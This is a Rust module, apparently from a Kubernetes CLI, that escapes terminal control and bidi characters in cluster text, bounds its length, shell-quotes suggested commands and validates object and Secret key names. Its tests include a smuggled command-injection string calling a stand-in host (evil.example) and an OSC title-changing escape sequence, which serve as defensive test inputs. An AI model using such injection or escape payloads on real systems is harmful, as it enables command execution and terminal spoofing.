//! Text from the cluster, made fit for a terminal. Anyone who may write a
//! runtime's spec or status, or an Event, chooses that text: printed raw, a
//! newline forges lines, ESC and OSC sequences recolour, retitle or hide the
//! screen, and a pasted command runs what they wrote. Every human view
//! passes each cluster value through [`safe`] (one line, no control
//! character, bounded) and builds suggested commands with [`shell_command`].
//! `-o json|yaml` is left alone: those encoders escape already.

/// How many characters of one value are shown; the rest is counted.
pub const MAX_CHARS: usize = 512;

/// `text` on one line: control characters (C0 with tab and newline, DEL,
/// C1 with ESC's 8-bit twin CSI) and the invisible characters that reorder
/// or break lines (bidi overrides, line and paragraph separators) are
/// written as escapes (`\n`, `\x1b`, `\u{202e}`), and past [`MAX_CHARS`]
/// the rest becomes `… (N more)`. Printable text shorter than that comes
/// back unchanged.
pub fn safe(text: &str) -> String {
    bounded(text, MAX_CHARS)
}

/// [`safe`] with another bound, for a whole message that quotes cluster text
/// (an error from the API server).
pub fn bounded(text: &str, max_chars: usize) -> String {
    let mut out = String::new();
    let mut shown = 0;
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        let piece = escape(c);
        let width = piece.as_ref().map_or(1, |p| p.chars().count());
        if shown + width > max_chars {
            let rest = 1 + chars.count();
            out.push_str(&format!("… ({rest} more)"));
            return out;
        }
        match piece {
            Some(p) => out.push_str(&p),
            None => out.push(c),
        }
        shown += width;
    }
    out
}

/// The escape for a character that must not reach a terminal, `None` for
/// one that may.
fn escape(c: char) -> Option<String> {
    match c {
        '\n' => Some("\\n".to_string()),
        '\r' => Some("\\r".to_string()),
        '\t' => Some("\\t".to_string()),
        c if (c as u32) < 0x20 || c == '\u{7f}' => Some(format!("\\x{:02x}", c as u32)),
        c if is_hidden(c) => Some(format!("\\u{{{:x}}}", c as u32)),
        _ => None,
    }
}

/// C1 controls, and the format characters that reorder text or break lines
/// without showing themselves.
fn is_hidden(c: char) -> bool {
    matches!(c,
        '\u{80}'..='\u{9f}'
        | '\u{2028}' | '\u{2029}'
        | '\u{200e}' | '\u{200f}'
        | '\u{202a}'..='\u{202e}'
        | '\u{2066}'..='\u{2069}'
        | '\u{61c}')
}

/// Whether [`safe`] would leave `c` alone.
pub fn is_printable(c: char) -> bool {
    escape(c).is_none()
}

/// One word for a POSIX shell: left bare when it holds only characters no
/// shell treats specially, else in single quotes (a quote inside as `'\''`).
pub fn shell_word(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./=:@,+%".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_string();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// A command line from its words, each quoted by [`shell_word`].
pub fn shell_command(words: &[&str]) -> String {
    words
        .iter()
        .map(|w| shell_word(w))
        .collect::<Vec<_>>()
        .join(" ")
}

/// Whether `name` is a DNS subdomain (RFC 1123), as Kubernetes names most
/// objects, Secrets among them: the only names a suggested command uses.
pub fn is_object_name(name: &str) -> bool {
    name.len() <= 253
        && name.split('.').all(|label| {
            !label.is_empty()
                && label
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
                && !label.starts_with('-')
                && !label.ends_with('-')
        })
}

/// Whether `key` may name a key of a Secret.
pub fn is_secret_key(key: &str) -> bool {
    !key.is_empty()
        && key.len() <= 253
        && key != "."
        && key != ".."
        && key
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-._".contains(c))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn is_control(c: char) -> bool {
        c.is_control() || !is_printable(c)
    }

    #[test]
    fn escapes_what_a_terminal_would_act_on() {
        assert_eq!(safe("a\nb\r\tc"), "a\\nb\\r\\tc");
        assert_eq!(safe("\u{1b}]0;pwned\u{7}"), "\\x1b]0;pwned\\x07");
        assert_eq!(safe("nul\0del\u{7f}"), "nul\\x00del\\x7f");
        assert_eq!(safe("csi\u{9b}31m"), "csi\\u{9b}31m");
        assert_eq!(safe("abc\u{202e}fed"), "abc\\u{202e}fed");
        assert_eq!(safe("llama3.2 ✓ 日本"), "llama3.2 ✓ 日本");
    }

    #[test]
    fn bounds_long_values() {
        let long = "x".repeat(200_000);
        let shown = safe(&long);
        assert_eq!(shown, format!("{}… (199488 more)", "x".repeat(512)));
        assert_eq!(safe(&"y".repeat(512)), "y".repeat(512));
        // Escapes count as what they show.
        let escapes = safe(&"\u{1b}".repeat(200));
        assert!(escapes.ends_with("… (72 more)"), "{escapes}");
    }

    #[test]
    fn quotes_for_a_shell() {
        assert_eq!(shell_word("private-ai"), "private-ai");
        assert_eq!(shell_word(""), "''");
        assert_eq!(
            shell_word("x; curl http://evil.example/$(id) #"),
            "'x; curl http://evil.example/$(id) #'"
        );
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(
            shell_command(&["kubectl", "get", "a b"]),
            "kubectl get 'a b'"
        );
    }

    #[test]
    fn kubernetes_names() {
        assert!(is_object_name("llm-credentials"));
        assert!(is_object_name("a.b-c"));
        assert!(!is_object_name("x; curl http://evil.example/$(id) #"));
        assert!(!is_object_name("Upper"));
        assert!(!is_object_name("-a"));
        assert!(!is_object_name(""));
        assert!(is_secret_key("api_key.txt"));
        assert!(!is_secret_key("a/b"));
        assert!(!is_secret_key(".."));
    }

    /// What `sh` makes of a command line's words: the reference POSIX
    /// single-quote and bare-word rules, enough for what [`shell_word`]
    /// emits (anything else fails the test).
    fn posix_words(line: &str) -> Vec<String> {
        let mut words = Vec::new();
        let mut word = String::new();
        let mut in_word = false;
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            match c {
                ' ' if in_word => {
                    words.push(std::mem::take(&mut word));
                    in_word = false;
                }
                ' ' => {}
                '\'' => {
                    in_word = true;
                    for q in chars.by_ref() {
                        if q == '\'' {
                            break;
                        }
                        word.push(q);
                    }
                }
                '\\' => {
                    in_word = true;
                    word.extend(chars.next());
                }
                c if c.is_ascii_alphanumeric() || "-_./=:@,+%".contains(c) => {
                    in_word = true;
                    word.push(c);
                }
                c => panic!("{c:?} would be special to the shell in {line:?}"),
            }
        }
        if in_word {
            words.push(word);
        }
        words
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]

        #[test]
        fn nothing_raw_survives(bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
            let text = String::from_utf8_lossy(&bytes);
            let shown = safe(&text);
            prop_assert!(!shown.chars().any(is_control), "{shown:?}");
            prop_assert!(!shown.contains('\n') && !shown.contains('\r'));
            prop_assert!(shown.chars().count() <= MAX_CHARS + "… (2000 more)".len());
        }

        #[test]
        fn any_string_is_one_bounded_line(text in any::<String>()) {
            let shown = safe(&text);
            prop_assert!(!shown.chars().any(is_control), "{shown:?}");
            prop_assert!(shown.chars().count() <= MAX_CHARS + 24);
        }

        #[test]
        fn short_printable_text_is_unchanged(text in "[^\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}]{0,512}") {
            prop_assert_eq!(safe(&text), text);
        }

        #[test]
        fn quoting_round_trips(words in proptest::collection::vec(any::<String>(), 1..6)) {
            let refs: Vec<&str> = words.iter().map(String::as_str).collect();
            prop_assert_eq!(posix_words(&shell_command(&refs)), words);
        }
    }

    /// The same through a real shell, for the words that matter most.
    #[test]
    fn quoting_round_trips_through_sh() {
        let words = [
            "x; curl http://evil.example/$(id) #",
            "it's `id` and \"$HOME\" \\ * ?",
            "",
            "new\nline",
        ];
        for word in words {
            let script = format!("printf %s {}", shell_word(word));
            let out = std::process::Command::new("sh")
                .args(["-c", &script])
                .output()
                .unwrap_or_else(|e| panic!("sh: {e}"));
            assert_eq!(String::from_utf8_lossy(&out.stdout), word, "{script}");
        }
    }
}
